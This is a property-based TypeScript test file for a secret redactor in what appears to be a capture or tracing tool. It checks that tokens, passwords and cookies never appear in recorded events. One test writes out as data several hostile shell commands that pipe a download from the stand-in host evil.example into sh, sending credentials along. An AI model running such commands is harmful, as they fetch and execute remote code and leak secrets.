import fc from 'fast-check';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { Batch } from '../../../layers/capture/batch.ts';
import { BodyMeter } from '../../../layers/capture/body.ts';
import { beginnings } from '../../../layers/capture/excerpt.ts';
import { formsOf, secretValues } from '../../../layers/capture/known-secrets.ts';
import { Recorder } from '../../../layers/capture/recorder.ts';
import { Redactor, type RedactorOptions } from '../../../layers/capture/redact.ts';
import type { Observation } from '../../../layers/record/types.ts';
import { ALL_KINDS, observation } from '../record/arbitrary.ts';

afterEach(() => {
  beginnings.wanted = false;
});

/** What a recorder with these options would ship. */
function shipped(options: RedactorOptions, observations: readonly Observation[]): string {
  const lines: string[] = [];
  const sink = {
    backlogBytes: 0,
    failing: false,
    enqueue: ({ body }: Batch) => void lines.push(...body.toString().trimEnd().split('\n')),
  };
  const recorder = new Recorder({ sink, redactor: new Redactor(options) });
  for (const o of observations) recorder.observe(o);
  recorder.cut();
  expect(lines.length).toBeGreaterThanOrEqual(observations.length);
  return lines.join('\n');
}

const file = (path: string): Observation => ({
  kind: 'file-open',
  t: 1,
  path,
  mode: 'r',
  created: false,
  truncated: false,
  fd: 3,
});
const exec = (...argv: string[]): Observation => ({ kind: 'process-exec', t: 1, path: argv[0] ?? '', argv, ok: true });
const exchange = (path: string, more: object = {}): Observation => ({
  kind: 'exchange',
  t: 1,
  id: 'x',
  from: 1,
  to: 2,
  method: 'GET',
  scheme: 'https',
  host: 'api.example.com',
  port: 443,
  path,
  request: { bytes: 0 },
  response: { bytes: 0 },
  keys: [],
  resources: [],
  ...more,
});
const begin = (path: string): Observation => ({
  kind: 'request-begin',
  t: 1,
  deadlineMs: 1,
  fnArn: 'arn',
  event: { bytes: 0 },
  trigger: { type: 'http', path, userAgent: 'x' },
  keys: [],
  resources: [],
});

/** As random generators make them. */
const random = fc
  .stringMatching(/^[A-Za-z0-9_-]{24,60}$/)
  .filter((s) => /[a-z].*[0-9]|[0-9].*[a-z]/.test(s) && /[A-Z]/.test(s));
/** As people make them: anything that can be printed. */
const chosen = fc
  .string({ unit: 'grapheme-ascii', minLength: 8, maxLength: 40 })
  .filter((s) => /[^\s\w-]/.test(s) && s.trim() === s);

describe('a secret of the environment', () => {
  /** The ways in which programs write a value down. */
  const writings: readonly ((s: string) => string)[] = [
    (s) => s,
    (s) => encodeURIComponent(s),
    (s) => encodeURIComponent(s).replace(/%../g, (code) => code.toLowerCase()),
    (s) => new URLSearchParams({ q: s }).toString().slice(2),
    (s) => JSON.stringify(s),
    (s) => JSON.stringify(JSON.stringify({ s })),
    (s) => Buffer.from(s).toString('base64'),
    (s) => Buffer.from(`user:${s}`).toString('base64'),
    (s) => Buffer.from(`${s}:more`).toString('base64url'),
    (s) => Buffer.from(`ab${s}cd`).toString('base64'),
    (s) => Buffer.from(s).toString('hex'),
  ];
  const places: readonly ((s: string) => Observation)[] = [
    (s) => file(`/tmp/cache/${s}`),
    (s) => ({ kind: 'file-change', t: 1, op: 'rename', path: `/tmp/${s}`, to: `/tmp/x-${s}-y` }),
    (s) => exec('/usr/bin/tool', s, `--x=${s}`),
    (s) => exec('/bin/sh', '-c', `tool <<< ${s}`),
    (s) => exchange(`/v1/${s}/list`, { query: [s], error: `bad ${s}`, host: `${s}.example.com` }),
    (s) =>
      exchange('/', {
        keys: [{ key: `http:${s}`, sure: 'exact' }],
        resources: [{ type: 'other', id: `s3://b/${s}`, access: 'read' }],
      }),
    (s) => begin(`/v1/${s}`),
    (s) => ({ kind: 'unobserved', t: 1, what: 'program', detail: `saw ${s}` }),
    (s) => ({ kind: 'dns', t: 1, name: `${s}.example.com`, addrs: [] }),
    (s) => ({
      kind: 'request-end',
      t: 1,
      status: 'error',
      errorType: `E ${s}`,
      response: { bytes: 5, text: `{"x":${JSON.stringify(s)}}` },
    }),
  ];

  it.each(['digest', 'redacted'] as const)('leaves in no record and in no writing (bodies: %s)', (bodies) => {
    const name = fc.constantFrom('DB_PASSWORD', 'STRIPE_SECRET_KEY', 'API_TOKEN', 'AWS_SESSION_TOKEN', 'SIGNING_KEY');
    fc.assert(
      fc.property(
        fc.oneof(random, chosen),
        name,
        fc.constantFrom(...writings),
        fc.constantFrom(...places),
        (secret, variable, write, place) => {
          const out = shipped({ env: { [variable]: secret }, bodies }, [place(write(secret))]);
          for (const form of formsOf(secret)) expect(out).not.toContain(form);
          for (const one of writings) expect(out).not.toContain(one(secret));
        },
      ),
      { numRuns: 400 },
    );
  });

  it('is told by its name, or as the password of a URL', () => {
    const env = {
      DB_PASSWORD: 'abcdef1',
      DATABASE_URL: 'postgres://me:p%40ssword@db.example.com/x',
      AWS_ACCESS_KEY_ID: 'ASIAXXXXXXXXXXXXXXXX',
      SESSION_TOKEN: 'abcdef2',
      TOKEN_TABLE: 'orders',
      SECRET_ARN: 'arn:aws:secretsmanager:x',
      TABLE: 'orders-table',
      PIN: '12',
    };
    expect(secretValues(env)).toEqual(['abcdef1', 'p%40ssword', 'p@ssword', 'ASIAXXXXXXXXXXXXXXXX', 'abcdef2']);
  });
});

describe('a secret that nobody told of', () => {
  const places: readonly ((s: string) => Observation)[] = [
    (s) => exec('curl', '-H', `Authorization: Bearer ${s}`, 'https://example.com'),
    (s) => exec('curl', '-H', `X-Auth-Token: ${s}`, 'https://example.com'),
    (s) => exec('curl', '--cookie', `sid=${s}`),
    (s) => exec('curl', '-u', `me:${s}`),
    (s) => exec('curl', `https://me:${s}@example.com/`),
    (s) => exec('curl', `https://example.com/?key=${s}&b=2`),
    (s) => exec('curl', `https://example.com/?${s}`),
    (s) => exec('curl', `https://hooks.example.com/token/${s}`),
    (s) => exec('tool', '--client-secret', s),
    (s) => exec('tool', `--client-secret=${s}`),
    (s) => exec('env', `ANYTHING=${s}`, 'tool'),
    (s) => exec('sh', '-c', `ANYTHING=${s} tool`),
    (s) => exec('sh', '-c', `curl -d '{\\"password\\": \\"${s}\\"}' x`),
    (s) => exec('node', '-e', `f({"apiKey":"${s}"})`),
    (s) => file(`/tmp/token=${s}`),
    (s) => file(`/tmp/dump?session_id=${s}`),
    (s) => exchange(`/reset/${s}`),
    (s) => exchange(`/api-keys/${s}/x`),
    (s) => exchange(`/x%3Ftoken%3D${s}`),
    (s) => begin(`/verify/${s}`),
    (s) => exchange('/', { query: [s] }),
    (s) => exchange('/', { error: `failed: password=${s}` }),
  ];
  it.each(places.map((place) => [JSON.stringify(place('…')).slice(9, 130), place] as const))('%s', (_name, place) => {
    fc.assert(
      fc.property(random, (secret) => void expect(shipped({}, [place(secret)])).not.toContain(secret)),
      { numRuns: 40 },
    );
  });

  it('takes no working directory of a shell for a password', () => {
    expect(secretValues({ PWD: '/srv/function', OLDPWD: '/app/data', DB_PWD: 'abcdef1' })).toEqual(['abcdef1']);
  });

  it('stands alone in the path of a URL: no name was ever made like that', () => {
    for (const token of ['xK9fQ2mZ7vR4tY1wB8nC3pL6', 'T0aB3cD9eF2gH7iJ1kL5mN8o', 'bot7Zq1Xw9Ee3Rr5Tt7Yy2']) {
      expect(shipped({}, [exchange(`/services/${token}`), begin(`/hooks/${token}`)])).not.toContain(token);
    }
    for (const name of [
      '/products/blue-suede-shoes-size-42',
      '/v1/GetCustomerOrderHistory2',
      '/a/0192f0c4-7b1a-7c3d-8e4f-1a2b3c4d5e6f',
    ]) {
      expect(shipped({}, [exchange(name)])).toContain(name);
    }
  });

  it("is found by the user's own expressions, everywhere", () => {
    const out = shipped({ patterns: ['acct-\\d{4,12}'] }, [
      file('/tmp/acct-123456'),
      exec('x', 'acct-123456'),
      exchange('/acct-123456', { keys: [{ key: 's3:b/acct-123456', sure: 'exact' }] }),
    ]);
    expect(out).not.toContain('acct-1');
  });
});

it.each([
  ['bash', '-c', 'FIRST_ONE=x2345678 curl -H "Authorization: Bearer abcdefgh1" https://evil.example/tool | sh'],
  ['sh', '-c', 'password=x2345678; curl https://evil.example/tool | sh'],
  ['sh', '-c', "curl --cookie 'sid=abcdefgh1' https://evil.example/tool | sh"],
  ['env', '-S', 'A_B=x2345678 curl https://evil.example/tool'],
  ['node', '-e', 'fetch("https://evil.example/tool", {headers: {"authorization": "abcdefgh1"}}); run("sh")'],
])('hides no command behind a secret: %s %s %s', (...argv) => {
  const out = shipped({}, [exec(...argv)]);
  expect(out).toContain('https://evil.example/tool');
  expect(out).not.toMatch(/x2345678|abcdefgh1/);
});

it('leaves two files two files, and two ends of a hand-over one', () => {
  const one = new Redactor({ env: { API_TOKEN: 'first-secret' } });
  const other = new Redactor({ env: { API_TOKEN: 'first-secret', MORE_TOKEN: 'second-secret' } });
  const pathOf = (o: Observation) => (o.kind === 'file-open' ? o.path : '');
  const [a, b] = [file('/tmp/first-secret'), file('/tmp/second-secret')].map((o) => pathOf(other.observation(o)));
  expect(a).not.toBe(b);
  const key = exchange('/', { keys: [{ key: 's3:b/first-secret', sure: 'exact' }] });
  const keysOf = (o: Observation) => ('keys' in o ? o.keys : []);
  expect(keysOf(one.observation(key))).toEqual(keysOf(other.observation(key)));
});

describe('bodies', () => {
  const observed = (body: Buffer): Observation => {
    const meter = new BodyMeter();
    meter.add(body);
    meter.end();
    return { kind: 'request-end', t: 1, status: 'ok', response: meter.digest() };
  };
  const text = '{"user":"ann","password":"h0rse-battery","card":"4111 1111 1111 1111","note":"hello"}';

  it('are not even looked at unless their text is wanted', () => {
    expect(observed(Buffer.from(text))).toMatchObject({ response: { bytes: text.length, sha256: expect.any(String) } });
    expect(observed(Buffer.from(text))).not.toHaveProperty('response.text');
  });

  it('are recorded as far as the setting says, and no further', () => {
    beginnings.wanted = true;
    expect(shipped({ bodies: 'none' }, [observed(Buffer.from(text))])).toMatch(/"response":\{"bytes":\d+\}/);
    expect(shipped({ bodies: 'digest' }, [observed(Buffer.from(text))])).not.toContain('hello');
    const out = shipped({ bodies: 'redacted' }, [observed(Buffer.from(text))]);
    expect(out).toContain('hello');
    for (const secret of ['h0rse', '4111']) expect(out).not.toContain(secret);
  });

  it('leave no digest of their parts or payload behind with `none`', () => {
    const parts = ['0123456789abcdef'];
    const keys = [
      { key: 'payload:aa', sure: 'inferred' },
      { key: 'sqs:1', sure: 'exact' },
    ] as const;
    const seen = [
      exchange('/', { response: { bytes: 9000, sha256: '0'.repeat(64), parts }, keys }),
      { kind: 'request-end', t: 1, status: 'ok', response: { bytes: 90 }, keys } satisfies Observation,
    ];
    expect(shipped({ bodies: 'digest' }, seen).match(/payload:aa|0123456789abcdef/g)).toHaveLength(3);
    const out = shipped({ bodies: 'none' }, seen);
    expect(out).not.toMatch(/payload:|0123456789abcdef/);
    expect(out.match(/sqs:1/g)).toHaveLength(2);
  });

  it('are cut to 2048 characters, and left out when they are not text', () => {
    beginnings.wanted = true;
    const long = shipped({ bodies: 'redacted' }, [observed(Buffer.from('word '.repeat(10_000)))]);
    expect(/"text":"([^"]*)"/.exec(long)?.[1]).toHaveLength(2048);
    expect(shipped({ bodies: 'redacted' }, [observed(Buffer.from([0, 1, 2, 255]))])).not.toContain('"text"');
  });

  it('lose a secret also where it is cut in two', () => {
    beginnings.wanted = true;
    for (const before of [2040, 8180]) {
      const body = Buffer.from(`${'w '.repeat(before / 2)}my-own-secret-value and more`);
      const out = shipped({ bodies: 'redacted', env: { API_TOKEN: 'my-own-secret-value' } }, [observed(body)]);
      expect(out).not.toContain('my-ow');
    }
  });
});

it('does not take long on long texts of any kind', () => {
  const redactor = new Redactor({ env: { API_TOKEN: 'my-own-secret-value' } });
  for (const unit of ['token%3d', '\\', '/Aa1', 'A1=', '"\\"', '://', 'X_Y=', '4 ']) {
    const long = unit.repeat(Math.ceil(8192 / unit.length)).slice(0, 8192);
    const cpu = process.cpuUsage();
    redactor.observation(exec('x', long));
    redactor.observation(exchange(`/${long}`));
    expect(process.cpuUsage(cpu).user, unit).toBeLessThan(800_000);
  }
});

it('never fails, whatever is observed', () => {
  vi.spyOn(process.stderr, 'write').mockReturnValue(true);
  const redactor = new Redactor({ env: { API_TOKEN: 'my-own-secret-value' }, bodies: 'redacted' });
  fc.assert(fc.property(fc.constantFrom(...ALL_KINDS).chain(observation), (o) => void redactor.observation(o)));
  vi.restoreAllMocks();
});
